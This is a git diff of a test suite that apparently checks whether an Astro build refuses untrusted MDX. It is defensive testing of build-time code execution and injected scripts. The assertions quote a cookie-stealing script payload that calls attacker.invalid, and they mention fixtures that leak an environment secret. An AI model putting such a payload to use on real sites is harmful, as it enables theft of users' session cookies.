@@ -1,5 +1,5 @@
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Plugin } from 'vite';
@@ -84,13 +84,27 @@ describe('astro build refuses untrusted MDX', () => {
     const unguarded = readFileSync(config, 'utf8').replace(/^\s*untrustedMdx\(\),\n/m, '');
     expect(unguarded).not.toContain('untrustedMdx()');
     writeFileSync(config, unguarded);
-    // the stock way: every entry compiled by @astrojs/mdx into a module that runs at build time
+    // the stock way: Astro's glob loader, every entry compiled by @astrojs/mdx into a
+    // module, and a page that renders it (the catalog's own pages read the loader's HTML)
     const collections = join(root, 'src/content.config.ts');
     const stock = readFileSync(collections, 'utf8')
       .replace("import { paperLoader } from './loaders/papers-loader.ts';", "import { glob } from 'astro/loaders';")
       .replace("paperLoader({ base: 'content/papers' })", "glob({ base: './content/papers', pattern: '*.mdx' })");
     expect(stock).toContain('glob({');
     writeFileSync(collections, stock);
+    rmSync(join(root, 'src/pages'), { recursive: true });
+    mkdirSync(join(root, 'src/pages/papers'), { recursive: true });
+    writeFileSync(
+      join(root, 'src/pages/papers/[slug].astro'),
+      [
+        '---',
+        "import { getCollection, render } from 'astro:content';",
+        "export const getStaticPaths = async () => (await getCollection('papers')).map((paper) => ({ params: { slug: paper.id }, props: { paper } }));",
+        'const { Content } = await render(Astro.props.paper);',
+        '---',
+        '<Content />',
+      ].join('\n'),
+    );
 
     // the exit status is beside the point (a later step may fail on the broken pages):
     // by then the pages were rendered and the fixtures had run
@@ -98,7 +112,8 @@ describe('astro build refuses untrusted MDX', () => {
     expect(output).not.toContain('Refused:');
     expect(readdirSync(pwned).sort()).toEqual(['esm-export', 'expression']);
     expect(filesContaining(join(root, 'dist'), SECRET)).toEqual(['papers/expression-reads-env/index.html']);
-    expect(readFileSync(join(root, 'dist/papers/script-tag/index.html'), 'utf8')).toContain("<script>fetch('https://attacker.invalid/?c=' + document.cookie)</script>");
+    // the script element reaches the page as markup (its URL text linked by the site's plugins)
+    expect(readFileSync(join(root, 'dist/papers/script-tag/index.html'), 'utf8')).toMatch(/<script>fetch\(.*attacker\.invalid.*document\.cookie\)<\/script>/);
   }, BUILD_TIMEOUT);
 });
 
